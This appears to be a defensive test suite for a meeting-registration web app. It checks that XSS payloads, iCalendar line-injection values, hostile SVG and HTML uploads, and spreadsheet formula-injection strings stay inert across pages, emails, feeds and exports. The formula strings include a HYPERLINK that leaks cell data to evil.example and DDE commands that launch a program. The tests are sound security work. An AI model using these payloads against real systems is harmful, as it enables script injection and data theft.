import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { createRequestHandler } from "@remix-run/node";
import { parse as parseCsv } from "csv-parse/sync";
import ICAL from "ical.js";
import JSZip from "jszip";
import { samplePdf } from "../support/documents";
import { addMeeting, manageToken, registrationBody } from "../support/registration";
import { XSS_CORPUS, XSS_URLS, assertInert, visibleText } from "../support/xss-corpus";
import { meetingFields, signedIn, startApp } from "./app";

/**
 * The XSS corpus typed into every text field that is shown back, through the forms organisers and
 * participants use; then every page, email, feed, API answer and export that shows those fields is
 * read with a real HTML parser (parse5) and must hold nothing live. Each field gets as many attacks
 * as fit its length, a different run of them in each round, after a marker that proves the page
 * really showed the field.
 */

const ROUNDS = 3;
const ORIGIN = "http://localhost:3000";

/** Attacks from the corpus, from `start` on, as many as fit in `max` characters after the marker. */
function packed(marker: string, max: number, start: number, { oneLine = false } = {}): string {
  let value = marker;
  for (let n = 0; n < XSS_CORPUS.length; n++) {
    const attack = XSS_CORPUS[(start + n) % XSS_CORPUS.length]!;
    if (oneLine && /[\u0000-\u001F\u007F\u2028\u2029]/.test(attack)) continue;
    if (value.length + 1 + attack.length <= max) value += ` ${attack}`;
  }
  return value;
}

/** The whole corpus as markdown, one attack a paragraph, for the fields that take markdown. */
function markdown(marker: string): string {
  return [marker, ...XSS_CORPUS].join("\n\n");
}

describe("the XSS corpus through every text field that is shown back", async () => {
  const { db, build, request, thanksPage } = await startApp();
  const handler = createRequestHandler(build, "production");
  const organiser = await signedIn(db, "xss-organiser@example.org", "administrator");

  const get = async (url: string, cookie: string | null = organiser.cookie) => {
    const response = await request(url, { cookie });
    return { ...response, body: response.body.replaceAll("<!-- -->", "") };
  };
  const post = async (url: string, body: URLSearchParams | FormData, cookie: string | null = organiser.cookie) => {
    const response = await request(url, { method: "POST", body, cookie, headers: { Origin: ORIGIN, Host: "localhost:3000" } });
    return { ...response, body: response.body.replaceAll("<!-- -->", "") };
  };
  /** A page that must answer 200, hold nothing live, and show the markers. */
  async function assertPage(url: string, markers: string[], cookie: string | null = organiser.cookie) {
    const page = await get(url, cookie);
    assert.equal(page.status, 200, `GET ${url}`);
    assertInert(page.body, `GET ${url}`);
    const text = visibleText(page.body);
    for (const marker of markers) assert.ok(text.includes(marker), `GET ${url} shows ${marker}`);
    return page;
  }
  /** Where a saved form redirects; a refusal fails with the messages next to its fields. */
  const location = (response: { status: number; headers: Headers; body: string }, what: string) => {
    const messages = [...response.body.matchAll(/id="([^"]*-error)"[^>]*>([^<]*)<|class="error"[^>]*>([^<]*)</g)].map((match) => `${match[1] ?? "error"}: ${match[2] ?? match[3]}`);
    assert.equal(response.status, 302, `${what}: redirected after saving; ${messages.join("; ") || (/Please correct[\s\S]{0,400}/.exec(visibleText(response.body))?.[0] ?? "")}`);
    return response.headers.get("Location") ?? "";
  };

  it("refuses script addresses as a meeting's online link, and the refusal is inert", async () => {
    for (const onlineUrl of XSS_URLS.slice(0, -1)) {
      const refused = await post("/admin/meetings/new", meetingFields({ mode: "hybrid", onlineUrl }));
      assert.equal(refused.status, 400, onlineUrl);
      assertInert(refused.body, `the refusal of ${JSON.stringify(onlineUrl)}`);
    }
  });

  for (let round = 0; round < ROUNDS; round++) {
    it(`keeps round ${round + 1} of the corpus inert on every page that shows it`, async () => {
      const offset = round * 11;
      const mark = (field: string) => `Zx${round}${field}`;
      const value = (field: string, max: number, shift = 0, options?: { oneLine?: boolean }) => packed(mark(field), max, offset + shift, options);

      // A programme, and a hybrid meeting in it, through the organisers' forms.
      const programmeAt = location(
        await post("/admin/programmes", new URLSearchParams({ title: value("Prog", 200), summary: value("ProgSum", 1000, 3) })),
        "programme",
      );
      const programme = /^\/admin\/programmes\/([^/?]+)/.exec(programmeAt)![1]!;
      const meetingAt = location(
        await post(
          "/admin/meetings/new",
          meetingFields({
            title: value("Title", 300, 1),
            summary: value("Summary", 600, 2),
            description: markdown(mark("Desc")),
            organisingBody: value("Body", 200, 4),
            partners: value("Partners", 1000, 5),
            mode: "hybrid",
            onlineUrl: `https://example.org/meet?x="><script>alert(1)</script>`,
            venueName: value("Venue", 200, 6),
            venueAddress: value("Address", 500, 7),
            venueCity: value("City", 100, 8),
            programme,
            registrationPolicy: "open",
          }),
        ),
        "meeting",
      );
      const slug = /^\/admin\/meetings\/([^/?]+)/.exec(meetingAt)![1]!;
      const admin = `/admin/meetings/${slug}`;
      assert.equal((await post(admin, new URLSearchParams({ intent: "publish" }))).status, 302, "published");
      const meeting = await db.selectFrom("meetings").selectAll().where("slug", "=", slug).executeTakeFirstOrThrow();

      // Its agenda: a room, and an item with a description and a speaker.
      assert.equal((await post(`${admin}/agenda?index`, new URLSearchParams({ intent: "add-room", name: value("Room", 120, 9) }))).status, 302, "room");
      const room = await db.selectFrom("meeting_rooms").select("id").where("meeting_id", "=", meeting.id).executeTakeFirstOrThrow();
      const item = {
        intent: "add",
        title: `${value("Item", 280, 10)}\r\nBEGIN:VALARM\r\nX-INJECTED:1`,
        kind: "session",
        date: meeting.starts_on,
        start: "09:00",
        end: "10:30",
        room: String(room.id),
        description: markdown(mark("ItemDesc")),
        "people[0].name": value("Speaker", 200, 11),
        "people[0].role": "speaker",
        "people[0].affiliation": value("Affil", 200, 12),
      };
      assert.equal((await post(`${admin}/agenda?index`, new URLSearchParams(item))).status, 302, "agenda item");
      const agendaItem = await db.selectFrom("agenda_items").select(["id", "title"]).where("meeting_id", "=", meeting.id).executeTakeFirstOrThrow();

      // Its own questions: a text one and a choice whose options are attacks.
      const options = XSS_CORPUS.filter((attack) => !/[\r\n\u2028\u2029]/.test(attack)).slice(0, 4).map((attack, n) => `${mark(`Opt${n}`)} ${attack}`);
      for (const question of <Record<string, string>[]>[
        { intent: "add", label: value("Question", 300, 13), kind: "short_text" },
        { intent: "add", label: value("Choice", 300, 14), kind: "single_choice", options: options.join("\n") },
      ]) {
        const added = await post(`${admin}/questions`, new URLSearchParams(question));
        assert.ok([200, 302].includes(added.status), `question: ${added.status}`);
      }
      const questions = await db.selectFrom("registration_questions").select(["id", "kind"]).where("meeting_id", "=", meeting.id).orderBy("id").execute();
      assert.equal(questions.length, 2, "both questions added");

      // A participant registers through the public form.
      const email = `xss-round-${round}@example.org`;
      const registered = await post(
        `/meetings/${slug}/register`,
        new URLSearchParams({
          salutation: "Dr",
          firstName: value("First", 100, 15),
          lastName: value("Last", 100, 16),
          email,
          organisation: value("Org", 200, 17),
          jobTitle: value("Job", 200, 18),
          country: "TH",
          gender: "undisclosed",
          category: "expert",
          attendanceMode: "in_person",
          needs: value("Needs", 1000, 19),
          timezone: "Asia/Bangkok",
          consent: "yes",
          [`question-${questions[0]!.id}`]: value("Answer", 300, 20),
          [`question-${questions[1]!.id}`]: options[1]!,
        }),
        null,
      );
      assertInert((await thanksPage(registered)).body, "the registration's thanks");
      const registration = await db.selectFrom("registrations").select("id").where("meeting_id", "=", meeting.id).where("email", "=", email).executeTakeFirstOrThrow();
      const welcome = await db.selectFrom("outbox").select("text").where("to_address", "=", email).orderBy("id").executeTakeFirstOrThrow();
      const token = manageToken(welcome.text);
      const participant = await signedIn(db, email, "participant");

      // Their travel details.
      const followUp = await post(
        `/registrations/${token}/follow-up`,
        new URLSearchParams({
          arrivalDate: meeting.starts_on,
          arrivalTime: "19:05",
          arrivalFlight: value("Flt", 60, 21),
          departureDate: meeting.ends_on,
          departureTime: "22:10",
          departureFlight: value("Dep", 60, 22),
          hotel: value("Hotel", 200, 23),
          needsVisaLetter: "no",
          travelFundingRequested: "yes",
        }),
        null,
      );
      assert.equal(followUp.status, 200, "follow-up saved");

      // A document, opened for comments, and the participant's comment.
      const upload = new FormData();
      for (const [name, text] of Object.entries({
        title: value("Doc", 300, 24, { oneLine: true }),
        type: "working_paper",
        symbol: "",
        description: value("DocDesc", 5000, 25, { oneLine: true }),
        distribution: "general",
        access: "public",
      })) {
        upload.append(name, text);
      }
      upload.append("file-en", new File([new Uint8Array(await samplePdf(`Paper ${round}`))], `${mark("File")}<svg onload>alert(1)<svg>.pdf`, { type: "application/pdf" }));
      const documentAt = location(await post(`${admin}/documents`, upload), "document");
      const documentId = Number(/\/documents\/(\d+)/.exec(documentAt)![1]);
      const opened = await post(
        `${admin}/documents/${documentId}/inputs`,
        new URLSearchParams({ intent: "open", audience: "active", closesLocal: `${meeting.starts_on}T17:00`, message: value("Invite", 5000, 26), inputsVisible: "on" }),
      );
      assert.equal(opened.status, 302, "opened for comments");
      const comment = new FormData();
      comment.append("intent", "submit");
      comment.append("body", markdown(mark("Comment")));
      comment.append("section", value("Section", 200, 27));
      const commented = await post(`/meetings/${slug}/documents/${documentId}/inputs`, comment, participant.cookie);
      assert.ok([200, 302, 303].includes(commented.status), `comment: ${commented.status}`);

      // A mailing to the registrants.
      const mailing = { subject: value("Subject", 200, 28, { oneLine: true }), body: markdown(mark("Mailing")) };
      const preview = await post(`${admin}/mailings`, new URLSearchParams({ intent: "preview", ...mailing }));
      assert.equal(preview.status, 200, "mailing preview");
      assertInert(preview.body, "the mailing's preview");
      const expectedCount = /name="expectedCount" value="(\d+)"/.exec(preview.body)?.[1];
      assert.ok(expectedCount, "the preview carries the count");
      const sent = await post(`${admin}/mailings`, new URLSearchParams({ intent: "send", expectedCount, ...mailing }));
      assert.ok([200, 302].includes(sent.status), `mailing sent: ${sent.status}`);

      // Every page that shows the fields: public, the participant's, the organisers'.
      await assertPage("/", []);
      await assertPage(`/meetings?q=${encodeURIComponent(mark("Title"))}`, [mark("Title")], null);
      await assertPage(`/meetings?q=${encodeURIComponent(XSS_CORPUS[offset % XSS_CORPUS.length]!)}`, [], null);
      await assertPage(`/meetings/${slug}`, [mark("Title"), mark("Summary"), mark("Desc"), mark("Venue")], null);
      await assertPage(`/meetings/${slug}/agenda`, [mark("Item"), mark("ItemDesc"), mark("Speaker"), mark("Room")], null);
      await assertPage(`/meetings/${slug}/agenda?tz=${encodeURIComponent("<script>alert(1)</script>")}`, [mark("Item")], null);
      await assertPage(`/meetings/${slug}/register`, [mark("Question"), mark("Choice"), mark("Opt0")], null);
      await assertPage(`/meetings/${slug}/documents`, [mark("Doc")], null);
      await assertPage("/programmes", [mark("Prog")], null);
      await assertPage(`/programmes/${programme}`, [mark("Prog"), mark("Title")], null);
      await assertPage(`/registrations/${token}`, [mark("First"), mark("Answer")], null);
      await assertPage(`/registrations/${token}/follow-up`, [mark("Hotel")], null);
      await assertPage("/my", [mark("Title")], participant.cookie);
      await assertPage("/my/agenda", [], participant.cookie);
      await assertPage(`/meetings/${slug}/documents/${documentId}/inputs`, [mark("Doc"), mark("Comment")], participant.cookie);
      await assertPage("/admin", [mark("Title")]);
      await assertPage(admin, [mark("Title")]);
      await assertPage(`${admin}/registrations`, [mark("Last")]);
      await assertPage(`${admin}/registrations/${registration.id}`, [mark("First"), mark("Org"), mark("Job"), mark("Needs"), mark("Answer")]);
      await assertPage(`${admin}/participants`, []);
      await assertPage(`${admin}/checkin?q=${encodeURIComponent(mark("Last"))}`, [mark("Last")]);
      await assertPage(`${admin}/agenda`, [mark("Item"), mark("Room")]);
      await assertPage(`${admin}/agenda/${agendaItem.id}`, [mark("Item"), mark("Speaker")]);
      await assertPage(`${admin}/documents`, [mark("Doc")]);
      await assertPage(`${admin}/documents/${documentId}`, [mark("Doc"), mark("File")]);
      await assertPage(`${admin}/documents/${documentId}/inputs`, [mark("Comment"), mark("Section")]);
      await assertPage(`${admin}/questions`, [mark("Question")]);
      await assertPage(`${admin}/mailings`, [mark("Subject")]);
      await assertPage(`${admin}/follow-ups`, [mark("Hotel"), mark("Flt")]);
      await assertPage(`${admin}/attendance`, []);
      await assertPage(`${admin}/invitations`, []);
      await assertPage(`${admin}/circulations`, []);
      await assertPage("/admin/programmes", [mark("Prog")]);
      await assertPage(`/admin/programmes/${programme}`, [mark("Prog")]);

      // Every email sent in this round: its HTML is as inert as the pages.
      const emails = await db.selectFrom("outbox").select(["to_address", "subject", "html"]).where("to_address", "=", email).execute();
      assert.ok(emails.length >= 3, "the confirmation, the mailing and the invitation to comment");
      for (const message of emails) assertInert(message.html, `the email “${message.subject.slice(0, 40)}…”`);
      assert.ok(emails.some((message) => visibleText(message.html).includes(mark("Mailing"))), "the mailing's body is in its email");

      // The JSON API: JSON, never sniffed as a page, the text as typed.
      for (const url of ["/api/v1/meetings", `/api/v1/meetings/${slug}`]) {
        const answer = await get(url, null);
        assert.equal(answer.status, 200, url);
        assert.match(answer.headers.get("Content-Type") ?? "", /^application\/json/, url);
        assert.equal(answer.headers.get("X-Content-Type-Options"), "nosniff", url);
        assert.ok(answer.body.includes(JSON.stringify(meeting.title).slice(1, -1)), `${url} has the title as typed`);
      }

      // iCalendar: the typed line breaks stay inside the summary; no alarm or property is injected.
      for (const url of [`/meetings/${slug}/calendar.ics`, "/calendar.ics"]) {
        const feed = await get(url, null);
        assert.equal(feed.status, 200, url);
        const calendar = new ICAL.Component(ICAL.parse(feed.body));
        for (const event of calendar.getAllSubcomponents("vevent")) {
          assert.equal(event.getAllSubcomponents("valarm").length, 0, `${url}: no alarm injected`);
          assert.equal(event.getFirstPropertyValue("x-injected"), null, `${url}: no property injected`);
        }
        const summaries = calendar.getAllSubcomponents("vevent").map((event) => String(event.getFirstPropertyValue("summary")));
        assert.ok(summaries.some((summary) => summary.includes(mark("Title")) || summary.includes(mark("Item"))), `${url} lists the meeting`);
      }

      // Exports: no cell a spreadsheet would run, no formula in a workbook.
      for (const url of [`${admin}/registrations.csv`, `${admin}/follow-ups.csv`, `${admin}/attendance.csv`, `${admin}/documents/${documentId}/inputs.csv`]) {
        const csv = await get(url);
        assert.equal(csv.status, 200, url);
        for (const row of parseCsv(csv.body.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]) {
          for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${url}: a cell a spreadsheet would run: ${cell.slice(0, 60)}`);
        }
      }
      for (const url of [`${admin}/registrations.xlsx`, `${admin}/attendance.xlsx`]) await assertNoFormulas(url);
    });
  }

  it("keeps every attack inert in every registration field, on the organisers' pages and in exports", async () => {
    const meeting = await addMeeting(db, { title: "Corpus registrations" });
    const admin = `/admin/meetings/${meeting.slug}`;
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"];
    const attacks = [...XSS_CORPUS, ...formulas];
    for (const [n, attack] of attacks.entries()) {
      const registered = await post(
        `/meetings/${meeting.slug}/register`,
        registrationBody({
          email: `corpus-${n}@example.org`,
          firstName: attack,
          lastName: `Zr${n} ${attack}`.slice(0, 100),
          organisation: attack,
          jobTitle: attack,
          needs: attack,
        }),
        null,
      );
      assertInert((await thanksPage(registered)).body, `the thanks after ${JSON.stringify(attack)}`);
    }
    const ids = await db.selectFrom("registrations").select("id").where("meeting_id", "=", meeting.id).orderBy("id").execute();
    await assertPage(`${admin}/registrations`, attacks.map((_, n) => `Zr${n} `));
    await assertPage(`${admin}/checkin?q=Zr`, []);
    await assertPage(`${admin}/follow-ups`, []);
    for (const { id } of ids) await assertPage(`${admin}/registrations/${id}`, []);
    for (const message of await db.selectFrom("outbox").select(["subject", "html"]).where("to_address", "like", "corpus-%@example.org").execute()) {
      assertInert(message.html, `the email “${message.subject}”`);
    }
    for (const url of [`${admin}/registrations.csv`, `${admin}/follow-ups.csv`, `${admin}/attendance.csv`]) {
      const csv = await get(url);
      assert.equal(csv.status, 200, url);
      const cells = (parseCsv(csv.body.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]).flat();
      for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${url}: a cell a spreadsheet would run: ${cell.slice(0, 60)}`);
      if (url.includes("registrations")) for (const formula of formulas) assert.ok(cells.includes(`'${formula}`), `${url} keeps ${formula} as text`);
    }
    for (const url of [`${admin}/registrations.xlsx`, `${admin}/attendance.xlsx`]) await assertNoFormulas(url);
  });

  it("refuses SVG and HTML uploads, and serves any text file that holds markup as inert plain text", async () => {
    const meeting = await addMeeting(db, { title: "Corpus uploads" });
    const documents = `/admin/meetings/${meeting.slug}/documents`;
    const upload = (title: string, name: string, content: string) => {
      const form = new FormData();
      for (const [field, value] of Object.entries({ title, type: "working_paper", symbol: "", description: "", distribution: "general", access: "public" })) form.append(field, value);
      form.append("file-en", new File([content], name));
      return post(documents, form);
    };
    for (const [name, content] of <[string, string][]>[
      ["logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'],
      ["logo.svg", '\uFEFF  <?xml version="1.0"?><svg onload="alert(1)"/>'],
      ["page.html", "<!doctype html><script>alert(1)</script>"],
      ["page.txt", "<html><body onload=alert(1)>"],
    ]) {
      const refused = await upload("Refused", name, content);
      assert.equal(refused.status, 400, `${name}: ${content.slice(0, 40)}`);
      assertInert(refused.body, `the refusal of ${name}`);
    }
    const accepted = location(await upload("Markup as text", "notes.html", "<img src=x onerror=alert(1)> and <a href=javascript:alert(1)>x</a>\n"), "a text file");
    const documentId = Number(/\/documents\/(\d+)/.exec(accepted)![1]);
    const download = await get(`/meetings/${meeting.slug}/documents/${documentId}?language=en`, null);
    assert.equal(download.status, 200);
    assert.match(download.headers.get("Content-Type") ?? "", /^text\/plain\b/, "served as plain text, never as a page");
    assert.equal(download.headers.get("X-Content-Type-Options"), "nosniff");
    assert.match(download.headers.get("Content-Disposition") ?? "", /filename="notes\.html\.txt"/, "named for its content, never .html");
  });

  async function assertNoFormulas(url: string) {
    const answer = await request(url, { cookie: organiser.cookie });
    assert.equal(answer.status, 200, url);
    // request() reads text; the workbook is fetched again as bytes.
    const bytes = await fetchBytes(url);
    const zip = await JSZip.loadAsync(bytes);
    for (const name of Object.keys(zip.files).filter((file) => /^xl\/worksheets\/.*\.xml$/.test(file))) {
      const xml = await zip.file(name)!.async("string");
      assert.doesNotMatch(xml, /<f[ >]/, `${url} ${name}: a formula`);
    }
  }

  async function fetchBytes(url: string): Promise<Uint8Array> {
    const response = await handler(new Request(new URL(url, ORIGIN), { headers: { Cookie: organiser.cookie } }));
    return new Uint8Array(await response.arrayBuffer());
  }
});
